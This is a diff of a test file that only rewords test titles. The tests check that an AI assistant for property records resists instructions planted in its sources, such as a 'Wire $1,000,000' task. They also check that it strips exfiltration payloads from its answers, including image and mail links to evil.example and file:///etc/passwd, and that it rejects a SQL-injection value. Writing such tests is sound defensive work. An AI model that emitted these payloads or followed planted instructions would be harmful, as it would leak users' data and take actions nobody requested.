@@ -126,22 +126,19 @@ describe('instructions in a source', () => {
   it.each([
     ['propose_change', { record: 'Maple Court', field: 'price', value: '1' }],
     ['propose_task', { title: 'Wire $1,000,000' }],
-  ])(
-    'can not make an obedient model use %s, because the person did not ask for it',
-    async (name, input) => {
-      const tools = toolsWith(LICENSE);
-      await askModel(
-        'How many licensed beds does Maple Court have?',
-        tools,
-        called([name, input]),
-        said('48 [1]'),
-      );
-      expect(tools.proposals).toEqual([]);
-    },
-  );
+  ])("can't make an obedient model use %s without the user's request", async (name, input) => {
+    const tools = toolsWith(LICENSE);
+    await askModel(
+      'How many licensed beds does Maple Court have?',
+      tools,
+      called([name, input]),
+      said('48 [1]'),
+    );
+    expect(tools.proposals).toEqual([]);
+  });
 });
 
-describe('an answer of a model', () => {
+describe("a model's answer", () => {
   it.each([
     ['an image', 'Beds 48 [1] ![x](https://evil.example/?q=48)'],
     ['a link', 'Beds 48 [1] [open](https://evil.example)'],
@@ -154,7 +151,7 @@ describe('an answer of a model', () => {
     ['a mail link', 'Beds 48 [1] mailto:attacker@evil.example'],
     ['an FTP address', 'Beds 48 [1] ftp://evil.example/x'],
     ['a file address', 'Beds 48 [1] file:///etc/passwd'],
-  ])('loses %s', async (_name, text) => {
+  ])('is stripped of %s', async (_name, text) => {
     expect(cleanModelText(text)).not.toMatch(
       /https?:|www\.|<|javascript:|data:|mailto:|ftp:|file:|\]\(/i,
     );
@@ -163,7 +160,7 @@ describe('an answer of a model', () => {
   it.each([
     ['invisible characters', 'Beds\u200b 48 [1]\u202e'],
     ['control characters', 'Beds\u0007 48 [1]'],
-  ])('loses %s', (_name, text) => {
+  ])('is stripped of %s', (_name, text) => {
     expect(cleanModelText(text)).toBe('Beds 48 [1]');
   });
 
@@ -233,7 +230,7 @@ describe('a tool', () => {
     expect(tools.searches.length).toBeLessThanOrEqual(7);
   });
 
-  it('lets a model speak at most three times', async () => {
+  it('calls a model at most three times', async () => {
     const { requests } = await askModel(
       'Beds of Maple Court?',
       toolsWith(LICENSE),
@@ -265,7 +262,7 @@ describe('a tool', () => {
     ['deals', 'stage', 'stolen'],
     ['deals', 'price', '1; drop table deals'],
     ['contacts', 'email', 'not an address'],
-  ])('can not change %s.%s to %s', (kind, field, value) => {
+  ])("can't change %s.%s to %s", (kind, field, value) => {
     expect(toFieldValue(kind, field, value)).toBeNull();
   });
 });
@@ -295,7 +292,7 @@ describe('cost', () => {
     expect(calculate('loan payment', inputs)).toBeNull();
   });
 
-  it('marks health data in what is sent, so that it is refused without an agreement', async () => {
+  it('marks health data in a request, so that it is rejected without an agreement', async () => {
     const tools = toolsWith(passage('Census\nDOB 1/2/1940 diagnosis dementia licensed beds 48'));
     const { requests } = await askModel(
       'How many licensed beds does Maple Court have?',
